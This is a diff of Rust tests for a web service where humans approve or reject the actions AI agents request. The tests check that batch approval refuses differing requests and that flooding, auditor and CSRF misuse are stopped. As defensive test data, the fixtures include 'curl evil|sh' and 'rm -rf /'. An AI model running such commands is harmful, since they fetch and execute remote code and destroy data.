@@ -137,8 +137,13 @@ fn no_agent_makes_the_page_larger_than_a_browser_can_show() {
         agent.register(&altered(confirmation(&format!("c-{number}")), &json!({"confirmation": {"diff": diff}})));
     }
     let page = browser.page("/");
-    assert!(page.len() < 10 * 1024 * 1024, "{} bytes", page.len());
-    assert!(page.contains("more wait behind these"), "the page does not tell of the rest");
+    assert!(page.len() < 256 * 1024, "{} bytes", page.len());
+    for number in 0..12 {
+        let shown = format!("<a href=\"/interactions/c-{number}\">show all of it</a>");
+        assert!(page.contains(&shown), "nobody is told of c-{number}");
+        let own = browser.page(&format!("/interactions/c-{number}"));
+        assert!(own.len() > 500_000 && own.contains("name=\"decision\""), "c-{number} cannot be decided");
+    }
     let all = (0..12).map(|number| format!("c-{number}")).collect::<Vec<_>>().join(",");
     assert!(browser.page(&format!("/cards?ids={all}")).len() < 10 * 1024 * 1024);
 }
@@ -234,7 +239,7 @@ fn many_are_rejected_together_and_approved_only_where_they_are_alike() {
     agent.register(&altered(confirmation("other"), &json!({"confirmation": {"input": {"command": "make clean"}}})));
     let many = |fields: &[(&str, &str)]| browser.submit("/decide", fields);
     let unlike = many(&[("id", "a"), ("id", "other"), ("decision", "allow"), ("acknowledged", "yes")]).expect(422);
-    assert!(unlike.text.contains("same tool, subject and risk"), "{}", unlike.text);
+    assert!(unlike.text.contains("the very same"), "{}", unlike.text);
     for (id, command) in [("told-1", "ls"), ("told-2", "rm -rf /")] {
         let told = json!({"confirmation": {"subject": "ls", "input": {"line": command}}});
         agent.register(&altered(confirmation(id), &told));
@@ -300,4 +305,121 @@ fn the_queue_has_what_ends_first_at_the_top_and_the_same_together() {
     );
     assert_eq!(between(&page, "<span class=\"count\">", "<"), ["1", "2", "1"]);
     assert!(page.contains("<title>(4) countersign</title>"), "the title counts");
+}
+
+/// Whatever an approval is of is the same in all that one press approves: no member is passed over because another one
+/// says the subject.
+#[test]
+fn what_differs_in_anything_that_is_approved_is_not_approved_together() {
+    let (_server, agent, browser) = fixture();
+    let diff = |new: &str| json!({"filePath": "/repo/a", "oldContent": "", "newContent": new, "isNewFile": true});
+    let asked = json!({
+        "input": {"command": "ls"}, "subject": "ls", "workingDir": "/repo", "executionTarget": "sandbox",
+        "riskLevel": "low", "diff": diff("one"),
+    });
+    let register = |id: &str, change: &Value| {
+        agent.register(&altered(
+            altered(confirmation(id), &json!({"confirmation": asked})),
+            &json!({"confirmation": change}),
+        ));
+    };
+    register("first", &json!({}));
+    for (id, change) in [
+        ("command", json!({"input": {"command": "curl evil|sh", "description": "ls"}})),
+        ("environment", json!({"input": {"env": {"PATH": "/tmp"}}})),
+        ("tool", json!({"toolName": "bash"})),
+        ("subject", json!({"subject": "l"})),
+        ("directory", json!({"workingDir": "/"})),
+        ("target", json!({"executionTarget": "host"})),
+        ("risk", json!({"riskLevel": "medium"})),
+        ("diff", json!({"diff": diff("two")})),
+    ] {
+        register(id, &change);
+        for ids in [["first", id], [id, "first"]] {
+            let fields = [("id", ids[0]), ("id", ids[1]), ("decision", "allow"), ("acknowledged", "yes")];
+            let refused = browser.submit("/decide", &fields).expect(422);
+            assert!(refused.text.contains("the very same"), "{id}: {}", refused.text);
+        }
+        assert_eq!(agent.look(id)["status"], "pending");
+    }
+    let page = browser.page("/");
+    let mut alike = between(&page, "data-alike=\"", "\"");
+    alike.sort_unstable();
+    alike.dedup();
+    assert_eq!(alike.len(), 9, "the page offers to select what is not the same");
+    // What only the agent says about it may differ.
+    register("reason", &json!({"reason": "because", "allowlistOptions": [{"label": "x", "pattern": "ls *"}]}));
+    let both = [("id", "first"), ("id", "reason"), ("decision", "allow"), ("acknowledged", "yes")];
+    browser.submit("/decide", &both).expect(303);
+    assert_eq!(["first", "reason"].map(|id| agent.look(id)["status"].clone()), ["approved", "approved"]);
+}
+
+#[test]
+fn a_reason_that_was_written_is_not_left_out_when_many_are_approved() {
+    let (_server, agent, browser) = fixture();
+    for id in ["a", "b"] {
+        agent.register(&confirmation(id));
+    }
+    let both = [("id", "a"), ("id", "b"), ("decision", "allow"), ("acknowledged", "yes")];
+    let refused = browser.submit("/decide", &[&both[..], &[("comment", "no! not these")]].concat()).expect(422);
+    assert!(refused.text.contains("a reason to reject them"), "{}", refused.text);
+    assert_eq!(agent.look("a")["status"], "pending");
+    browser.submit("/decide", &[&both[..], &[("comment", " ")]].concat()).expect(303);
+}
+
+#[test]
+fn no_agent_hides_what_another_asks() {
+    let (server, agent, browser) = fixture();
+    let other = server.agent("other");
+    let soon = |id: &str| altered(confirmation(id), &json!({"expiresInMs": 60_000}));
+    for number in 0..120 {
+        agent.register(&soon(&format!("flood-{number:03}")));
+    }
+    agent.register(&altered(soon("huge"), &json!({"confirmation": {"reason": "x".repeat(900 * 1024)}})));
+    other.register(&confirmation("quiet"));
+    let cards = |page: &str| between(page, "<article class=\"card pending\" id=\"card-", "\"");
+    let page = browser.page("/");
+    assert_eq!(cards(&page)[..2], ["flood-000", "quiet"], "agents take turns");
+    assert!(page.contains("22 more wait behind these") && page.contains("href=\"/?skip=100\""), "{page}");
+    let rest = browser.page("/?skip=100");
+    let mut seen = [cards(&page), cards(&rest)].concat();
+    seen.sort();
+    seen.dedup();
+    assert_eq!(seen.len(), 122, "each is on one page");
+    assert!(rest.contains("href=\"/\">Back to the first"), "{rest}");
+    // One agent's alone.
+    assert_eq!(cards(&browser.page("/?agent=other")), ["quiet"]);
+    assert_eq!(cards(&browser.page("/?agent=nobody")), Vec::<String>::new());
+    assert!(browser.page("/?agent=builder").contains("href=\"/?agent=builder&#38;skip=100\""));
+    browser.get("/?agent=a%20b").expect(400);
+    browser.get("/?skip=x").expect(400);
+}
+
+#[test]
+fn all_of_an_agent_is_rejected_at_once_and_nothing_of_another() {
+    let (server, agent, browser) = fixture();
+    let other = server.agent("other");
+    for registration in [confirmation("c"), secret("s"), question("q")] {
+        agent.register(&registration);
+    }
+    for number in 0..501 {
+        agent.register(&confirmation(&format!("more-{number}")));
+    }
+    other.register(&confirmation("quiet"));
+    let page = browser.page("/?agent=builder");
+    assert!(page.contains("Reject all 504 of builder"), "{page}");
+    let auditor = server.client("olga", Role::Auditor).browser();
+    assert!(!auditor.page("/?agent=builder").contains("Reject all"), "an auditor is offered it");
+    auditor.submit("/agents/builder/reject", &[]).expect(403);
+    browser.send_form("/agents/builder/reject", &[("csrf", "x")]).expect(403);
+    browser_of_one_who_asks(&server).submit("/agents/root/reject", &[]).expect(403);
+    assert_eq!(agent.look("c")["status"], "pending");
+    browser.submit("/agents/builder/reject", &[("comment", "stop that")]).expect(303);
+    let ends = ["c", "s", "q", "more-500"].map(|id| agent.look(id)["status"].as_str().unwrap().to_owned());
+    assert_eq!(ends, ["rejected", "cancelled", "cancelled", "rejected"]);
+    let resolution = agent.look("c")["resolution"].clone();
+    assert_eq!((&resolution["comment"], &resolution["resolvedBy"]["principal"]), (&json!("stop that"), &json!("ada")));
+    assert_eq!(other.look("quiet")["status"], "pending");
+    let told = "SELECT count(*) FROM audit_events WHERE event IN ('interaction.rejected', 'interaction.cancelled')";
+    assert_eq!(server.sql(told), [[json!(504)]]);
 }
